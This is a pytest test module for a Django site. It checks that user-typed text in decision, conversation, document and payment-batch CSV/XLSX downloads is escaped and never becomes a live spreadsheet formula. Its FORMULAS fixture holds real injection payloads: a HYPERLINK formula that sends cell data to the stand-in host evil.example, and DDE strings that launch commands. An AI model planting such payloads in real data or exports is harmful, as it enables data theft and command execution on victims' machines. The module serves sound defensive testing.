"""Formula injection: text someone typed never becomes a formula in a download.

Every CSV and XLSX download the site offers is listed from the URL resolver; each has a
way here to plant formulas in the data it exports (a decision's title and outcome, a
conversation's statements, a document's comments, a payment batch's expense). A new
spreadsheet download without its entry in PLANTERS fails
`test_every_spreadsheet_download_is_covered`.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from levelfield.collectives.tests.factories import CollectiveFactory, CollectiveMembershipFactory
from levelfield.decisions.models import Outcome
from levelfield.decisions.tests.factories import DecisionFactory
from levelfield.deliberation.tests.factories import ConversationFactory, StatementFactory
from levelfield.documents import services as document_services
from levelfield.jobs.testing import prepared
from levelfield.lib import spreadsheets
from levelfield.payments import services as payment_services
from levelfield.payments.tests.factories import (
    ExpenseCategoryFactory,
    PaymentPolicyFactory,
    RateFactory,
)
from levelfield.people.models import User
from levelfield.people.tests.factories import UserFactory
from levelfield.places.access import collective_place
from levelfield.projects.tests.factories import (
    InvolvementEntryFactory,
    ParticipationFactory,
    ProjectFactory,
    ProjectMembershipFactory,
)
from tests.test_permission_matrix import ROUTES

# What attackers plant (OWASP's list of formula starts, and the full-width equals sign).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "\uff1d3+3",
]


@pytest.fixture
def world(db: None) -> dict[str, Any]:
    coordinator = UserFactory(display_name="Cora")
    member = UserFactory(display_name='=HYPERLINK("https://evil.example")')
    collective = CollectiveFactory(slug="sheets")
    CollectiveMembershipFactory(collective=collective, person=member)
    CollectiveMembershipFactory(collective=collective, person=coordinator, is_coordinator=True)
    project = ProjectFactory(collective=collective, created_by=member)
    ProjectMembershipFactory(project=project, person=member)
    ProjectMembershipFactory(project=project, person=coordinator, is_coordinator=True)
    return {"collective": collective, "project": project, "member": member, "boss": coordinator}


def _decisions(world: dict[str, Any], place: str) -> tuple[User, dict[str, Any]]:
    now = timezone.now()
    for text in FORMULAS:
        decision = DecisionFactory(
            place=world["project"].place, created_by=world["member"], title=text
        )
        Outcome.objects.create(
            decision=decision,
            statement=text,
            reasons=text,
            next_steps=text,
            written_by=world["member"],
            written_at=now,
            updated_at=now,
        )
    if place == "place":
        return world["member"], {"place_pk": world["project"].place.pk}
    if place == "project":  # the old address, which redirects to the place's
        return world["member"], {"project_pk": world["project"].pk}
    for text in FORMULAS:
        DecisionFactory(
            place=collective_place(world["collective"].pk), created_by=world["member"], title=text
        )
    return world["member"], {"slug": world["collective"].slug}


def _conversation(world: dict[str, Any]) -> tuple[User, dict[str, Any]]:
    conversation = ConversationFactory(place=world["project"].place)
    for text in FORMULAS:
        StatementFactory(conversation=conversation, text=text)
    return world["member"], {"pk": conversation.pk}


def _document(world: dict[str, Any]) -> tuple[User, dict[str, Any]]:
    today = timezone.localdate()
    document = document_services.document_start(
        started_by=world["member"],
        place=world["project"].place,
        title="Policy",
        purpose="Why.",
        text="# Rates\n\n=1+1 is what we pay.\n\n- a list item",
        questions=['=HYPERLINK("https://evil.example")'],
        opens_on=today,
        closes_on=today + timezone.timedelta(days=28),
    )
    paragraph = document.versions.get().paragraphs.get(position=2)
    for text in FORMULAS:
        document_services.comment_add(paragraph=paragraph, author=world["member"], text=text)
    document_services.amendment_propose(
        paragraph=paragraph, person=world["member"], text=FORMULAS[0], reason=FORMULAS[1]
    )
    return world["member"], {"pk": document.pk}


def _batch(world: dict[str, Any]) -> tuple[User, dict[str, Any]]:
    collective, project = world["collective"], world["project"]
    member, boss = world["member"], world["boss"]
    policy = PaymentPolicyFactory(collective=collective)
    RateFactory(policy=policy)
    category = ExpenseCategoryFactory(
        policy=policy, receipt_over=Decimal("100.00"), name=FORMULAS[0], cost_code="-1"
    )
    policy.finance_officers.add(boss)
    entry = InvolvementEntryFactory(project=project, recorded_by=member, title=FORMULAS[3])
    time = ParticipationFactory(entry=entry, person=member)
    claim = payment_services.claim_create(
        collective=collective, claimant=member, participations=[time]
    )
    for text in FORMULAS:
        payment_services.claim_expense_add(
            claim=claim, actor=member, category=category, description=text, amount=Decimal("4.20")
        )
    payment_services.claim_submit(claim=claim, actor=member)
    payment_services.claim_approve(claim=claim, actor=boss)
    batch = payment_services.batch_create(collective=collective, actor=boss)
    return boss, {"pk": batch.pk}


Planter = Callable[[dict[str, Any]], tuple[User, dict[str, Any]]]
PLANTERS: dict[str, Planter] = {
    "decisions:export_csv project": lambda w: _decisions(w, "project"),
    "decisions:export_csv collective": lambda w: _decisions(w, "collective"),
    "decisions:place_export_csv": lambda w: _decisions(w, "place"),
    "deliberation:export_votes": _conversation,
    "deliberation:export_comments": _conversation,
    "documents:export_csv": _document,
    "payments:batch_csv": _batch,
    "payments:batch_xlsx": _batch,
}


def _key(route: str, name: str) -> str:
    if name == "decisions:export_csv":
        return f"{name} {'project' if 'project_pk' in route else 'collective'}"
    return name


SPREADSHEET_ROUTES = {
    _key(route, name): route
    for route, name in ROUTES.items()
    if route.endswith((".csv", ".xlsx", ".xls", ".ods", ".tsv")) or "export" in name
    if not route.endswith((".html", ".pdf", ".doc", ".ics"))
}


def test_every_spreadsheet_download_is_covered() -> None:
    assert set(SPREADSHEET_ROUTES) == set(PLANTERS)


def _cells(response: Any) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
        return [cell for row in rows for cell in row]
    assert zipfile.is_zipfile(io.BytesIO(body))
    sheet = load_workbook(io.BytesIO(body)).active
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                found.append(cell.value)
                if spreadsheets.is_formula_text(cell.value):
                    assert cell.quotePrefix, f"{cell.coordinate} is not quote-prefixed"
    return found


@pytest.mark.parametrize("key", sorted(PLANTERS))
def test_no_planted_formula_reaches_a_download_as_a_formula(
    key: str, world: dict[str, Any]
) -> None:
    who, kwargs = PLANTERS[key](world)
    client = Client()
    client.force_login(who)
    route = SPREADSHEET_ROUTES[key]
    url = "/" + route
    for name, value in kwargs.items():
        url = url.replace(f"<int:{name}>", str(value)).replace(f"<slug:{name}>", str(value))
    response = client.get(url, follow=True)  # old addresses redirect to the new
    assert response.status_code == 200
    if "jobs/start.html" in [template.name for template in response.templates]:
        # Prepared in the background: the page's button starts it, the worker makes it.
        final = response.redirect_chain[-1][0] if response.redirect_chain else url
        response = prepared(client, final)
    cells = _cells(response)
    assert cells
    if key.startswith("payments:batch_xlsx"):
        return  # checked cell by cell in _cells: strings, never formulas
    formulas = [cell for cell in cells if spreadsheets.is_formula_text(cell)]
    assert not formulas, f"{url} wrote formulas: {formulas}"
    if key != "deliberation:export_votes":
        assert any(cell.startswith("'=HYPERLINK(") for cell in cells), "the text is kept"


def test_amounts_stay_numbers_for_the_finance_system(world: dict[str, Any]) -> None:
    boss, kwargs = _batch(world)
    client = Client()
    client.force_login(boss)
    sheet = load_workbook(
        io.BytesIO(client.get(f"/payments/batches/{kwargs['pk']}/batch.xlsx").content)
    ).active
    amounts = [row[8] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(amount, int | float) for amount in amounts), amounts
    rows = list(
        csv.reader(
            io.StringIO(client.get(f"/payments/batches/{kwargs['pk']}/batch.csv").content.decode())
        )
    )
    assert [row[8] for row in rows[1:]][-1] == f"{sum(Decimal(r[8]) for r in rows[1:-1]):.2f}"
    assert all(not row[8].startswith("'") for row in rows[1:])


def test_a_negative_number_is_a_number_and_negative_text_is_text() -> None:
    text = spreadsheets.csv_text([[Decimal("-4.20"), -1, "-1"]])
    assert text == "-4.20,-1,'-1\r\n"


def test_a_conversation_exported_and_imported_keeps_its_statements_as_typed(
    world: dict[str, Any],
) -> None:
    from levelfield.deliberation import polis
    from levelfield.deliberation.models import Statement

    source = ConversationFactory(place=world["project"].place)
    typed = ["=1+1 is not maths here", "- a point from a list", "Plain words"]
    for text in typed:
        StatementFactory(conversation=source, text=text)
    target = ConversationFactory(place=world["project"].place)
    polis.polis_import(
        conversation=target,
        actor=None,
        votes_csv=polis.csv_text(polis.votes_rows(source)),
        comments_csv=polis.csv_text(polis.comments_rows(source)),
    )
    assert sorted(
        Statement.objects.filter(conversation=target).values_list("text", flat=True)
    ) == (sorted(typed))
